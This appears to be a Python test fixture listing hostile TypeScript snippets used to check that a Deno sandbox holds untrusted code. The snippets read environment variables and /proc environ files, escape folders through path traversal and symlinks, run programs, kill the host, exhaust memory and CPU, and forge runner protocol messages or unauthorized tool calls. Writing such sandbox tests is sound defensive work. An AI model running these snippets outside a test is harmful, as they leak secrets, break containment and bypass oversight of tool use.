"""What hostile TypeScript tries. `$PORT`, `$HOST` and `$WORLD` stand for a server, a process and a folder to get at."""

from dataclasses import dataclass

LEAK = "CANARY"


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    code: str
    ends: tuple[str, ...] = ()
    """How it has to end: `value`, or a code. Empty: any way, as long as nothing is found out."""
    reads: bool = False
    """Whether it may read the folder `open` of the world."""
    tools: bool = False
    """Whether it may call `github:list_commits`."""
    timeout_ms: int = 10_000


def _import(module: str, then: str) -> str:
    return f'const m = await import("{module}"); {then}'


def _write(line: str) -> str:
    return f"Deno.stdout.writeSync(new TextEncoder().encode({line} + '\\n'));"


WAIT = "await new Promise(done => setTimeout(done, 200));"

NETWORK = [
    Attack("fetch from a server on this machine", 'await (await fetch("http://127.0.0.1:$PORT/next")).text()'),
    Attack(
        "connect to it",
        'const c = await Deno.connect({hostname: "127.0.0.1", port: $PORT});'
        'await c.write(new TextEncoder().encode("GET /x HTTP/1.0\\r\\n\\r\\n")); return "CANARY"',
    ),
    Attack(
        "ask it with node:http",
        _import("node:http", 'return await new Promise((r, j) => m.get("http://127.0.0.1:$PORT/h", r).on("error", j))'),
    ),
    Attack(
        "connect with node:net",
        _import(
            "node:net",
            'return await new Promise((r, j) => m.connect($PORT, "127.0.0.1", () => r("CANARY")).on("error", j))',
        ),
    ),
    Attack(
        "ask for a name", _import("node:dns/promises", 'return "CANARY" + JSON.stringify(await m.lookup("a.example"))')
    ),
    Attack("import from a server", '(await import("http://127.0.0.1:$PORT/m.js")).default'),
    Attack(
        "import from a host that Deno allows by default",
        'await import("https://raw.githubusercontent.com/x/y/m.js?leak=1"); return "CANARY"',
    ),
    Attack("import a package", 'await import("npm:left-pad"); return "CANARY"'),
]

SECRETS = [
    Attack("the environment", "Deno.env.toObject()"),
    Attack("the environment of Node", _import("node:process", "return {...m.default.env}")),
    Attack("the environment of the host", 'Deno.readTextFileSync("/proc/$HOST/environ")'),
    Attack(
        "its own environment, by node:fs",
        _import("node:fs", 'return m.readFileSync("/proc/self/environ", "utf8") + "CANARY"'),
    ),
    Attack("host name and user", 'return "CANARY" + Deno.hostname() + Deno.uid()'),
    Attack("network interfaces", _import("node:os", 'return "CANARY" + JSON.stringify(m.networkInterfaces())')),
]

FILES = [
    Attack(
        "import a file as text",
        '(await import("file://$WORLD/secret.txt", {with: {type: "text"}})).default',
        reads=True,
    ),
    Attack("read a file beside the allowed folder", 'Deno.readTextFileSync("$WORLD/secret.txt")', reads=True),
    Attack("go up from the allowed folder", 'Deno.readTextFileSync("$WORLD/open/../secret.txt")', reads=True),
    Attack("follow a link out of the allowed folder", 'Deno.readTextFileSync("$WORLD/open/link")', reads=True),
    Attack("write a file", 'Deno.writeTextFileSync("$WORLD/made", "x"); return "CANARY"'),
    Attack(
        "make a link in the allowed folder", 'Deno.symlinkSync("/etc/passwd", "$WORLD/open/made"); "CANARY"', reads=True
    ),
    Attack("open a database file", _import("node:sqlite", 'new m.DatabaseSync("$WORLD/x.db"); return "CANARY"')),
    Attack(
        "attach a database file",
        _import(
            "node:sqlite",
            'new m.DatabaseSync(":memory:").exec("ATTACH DATABASE \'$WORLD/y.db\' AS y; CREATE TABLE y.t(a)");'
            'return "CANARY"',
        ),
    ),
]

PROGRAMS = [
    Attack(
        "run a program",
        'try { new Deno.Command("/bin/true").outputSync(); return "CANARY" } catch { /* another way */ }'
        + _import("node:child_process", 'm.execFileSync("/bin/true", [], {env: {}}); return "CANARY"'),
    ),
    Attack("call a library", 'Deno.dlopen("libc.so.6", {getpid: {parameters: [], result: "i32"}}); return "CANARY"'),
    Attack(
        "load an addon",
        _import("node:process", 'm.default.dlopen({exports: {}}, "/lib/x86_64-linux-gnu/libm.so.6"); return "CANARY"'),
    ),
    Attack(
        "kill the host",
        'try { Deno.kill($HOST, "SIGTERM") } catch { (await import("node:process")).default.kill($HOST, "SIGTERM") }'
        'return "CANARY"',
    ),
    Attack("open the inspector", _import("node:inspector", 'm.open(9333); return "CANARY"')),
]

ENGINE = [
    Attack(
        "raise the limit of the heap",
        _import(
            "node:v8",
            "const limit = () => m.getHeapStatistics().heap_size_limit; const before = limit();"
            'm.setFlagsFromString("--max-old-space-size=8000"); return limit() > before ? "CANARY" : "same"',
        ),
    ),
    Attack(
        "switch on V8's own functions",
        _import(
            "node:v8",
            'm.setFlagsFromString("--allow-natives-syntax");'
            'try { return "CANARY" + (0, eval)("%GetHeapUsage()") } catch { return "none" }',
        ),
    ),
]

MEMORY = [
    Attack("fill the heap", "const a = []; for (;;) a.push(new Array(1e5).fill(1.5))", ("SANDBOX_MEMORY",)),
    Attack(
        "fill array buffers, outside the heap",
        "const a = []; for (;;) a.push(new Uint8Array(5e7).fill(1))",
        ("SANDBOX_MEMORY",),
    ),
    Attack(
        "fill WebAssembly's memory",
        "const a = []; for (;;) { const m = new WebAssembly.Memory({initial: 1600});"
        "new Uint8Array(m.buffer).fill(1); a.push(m) }",
        ("SANDBOX_MEMORY",),
    ),
    Attack("grow a text", 'let s = "x"; for (;;) s += s + Math.random()', ("SANDBOX_MEMORY", "CODE_ERROR")),
    Attack(
        "fill the heaps of many workers",
        _import(
            "node:worker_threads",
            "for (let i = 0; i < 40; i++) new m.Worker("
            '"const a = []; for (;;) a.push(new Array(1e5).fill(1.5))", {eval: true}); await new Promise(() => {})',
        ),
        ("SANDBOX_MEMORY", "SANDBOX_TIMEOUT", "SANDBOX_EXITED", "CODE_ERROR"),
    ),
]

TIME = [
    Attack("loop", "for (;;) {}", ("SANDBOX_TIMEOUT",), timeout_ms=1000),
    Attack(
        "loop in microtasks",
        "const f = () => Promise.resolve().then(f); await f()",
        ("SANDBOX_TIMEOUT", "SANDBOX_MEMORY"),
        timeout_ms=1000,
    ),
    Attack("match without end", '/^(a+)+$/.test("a".repeat(60) + "!")', ("SANDBOX_TIMEOUT",), timeout_ms=1000),
    Attack(
        "take no signal",
        'Deno.addSignalListener("SIGTERM", () => {}); Deno.addSignalListener("SIGINT", () => {}); for (;;) {}',
        ("SANDBOX_TIMEOUT",),
        timeout_ms=1000,
    ),
    Attack(
        "wait without end",
        "await new Promise(() => { setInterval(() => {}, 10) })",
        ("SANDBOX_TIMEOUT",),
        timeout_ms=1000,
    ),
    Attack("overflow the stack", "const f = () => f(); f()", ("CODE_ERROR",)),
    Attack("loop while the result is encoded", "({toJSON() { for (;;); }})", ("SANDBOX_TIMEOUT",), timeout_ms=1000),
]

ENDS = [
    Attack("end without a result", "Deno.exit(0)", ("SANDBOX_EXITED",)),
    Attack("abort", "(await import('node:process')).default.abort()", ("SANDBOX_EXITED", "SANDBOX_MEMORY")),
    Attack(
        "close its streams",
        "Deno.stdout.close(); Deno.stdin.close(); return 1",
        ("SANDBOX_EXITED", "CODE_ERROR"),
        timeout_ms=3000,
    ),
    Attack("escape the function around it", '}); globalThis.made = "CANARY"; (async () => { return "CANARY"'),
]

OUTPUT = [
    Attack("give a huge result", 'return "x".repeat(5e7)', ("SANDBOX_OUTPUT", "SANDBOX_MEMORY")),
    Attack("log without end", 'for (let i = 0; i < 1e6; i++) console.log("y".repeat(1000)); return 1', ("value",)),
    Attack(
        "flood standard output",
        "const b = new Uint8Array(1e6).fill(65); for (;;) Deno.stdout.writeSync(b)",
        ("SANDBOX_OUTPUT",),
    ),
    Attack(
        "call a tool that it was not given",
        _write('JSON.stringify({t: "call", n: 999, tool: "admin:delete_all", args: {}})') + WAIT + "return 1",
        ("value",),
        tools=True,
    ),
    Attack(
        "call a tool ten thousand times",
        "await Promise.allSettled(Array.from({length: 10000}, () => github.listCommits({}))); return 1",
        ("value",),
        tools=True,
    ),
    Attack(
        "forge the result and its figures",
        _write('JSON.stringify({t: "result", value: 1, seen: [], ms: -5, heap: "NaN"})') + "return 2",
        ("value",),
    ),
    Attack(
        "write senseless lines",
        "for (const l of ['[]', 'null', '{\"t\":5}', '{\"t\":\"call\",\"n\":{},\"tool\":[]}', '\\u0000\\u0001']) {"
        + _write("l")
        + "} return 3",
        ("value",),
    ),
    Attack(
        "break what the runner uses",
        'JSON.stringify = () => "{}"; Promise.prototype.then = null; Array.prototype.push = () => { throw 1 };'
        "Object.prototype.ok = true; return 4",
        timeout_ms=3000,
    ),
    Attack(
        "give a result without end of depth",
        "const s = '['.repeat(200000) + ']'.repeat(200000);"
        + _write('\'{"t":"result","value":\' + s + \'}\'')
        + WAIT
        + "return 1",
        ("SANDBOX_PROTOCOL", "value"),
    ),
]

TRACES = [
    Attack(
        "leave something in storage",
        'try { localStorage.setItem("k", "CANARY") } catch {}'
        'try { const c = await caches.open("x"); await c.put("http://a/", new Response("CANARY")) } catch {} return 1',
    ),
    Attack(
        "find what was left",
        'const r = []; try { r.push(localStorage.getItem("k")) } catch {}'
        'try { r.push(await (await (await caches.open("x")).match("http://a/")).text()) } catch {} return r',
    ),
    Attack(
        "get the storage from a worker",
        _import(
            "node:worker_threads",
            "const w = new m.Worker(\"const {parentPort: p} = require('worker_threads');"
            "caches.open('x').then(c => c.put('http://a/', new Response('CANARY')))"
            ".then(() => p.postMessage('CANARY'), e => p.postMessage(String(e)))\", {eval: true});"
            'return await new Promise(r => w.on("message", r))',
        ),
    ),
]

ATTACKS = [
    *(*NETWORK, *SECRETS, *FILES, *PROGRAMS, *ENGINE),
    *(*MEMORY, *TIME, *ENDS, *OUTPUT, *TRACES),
]
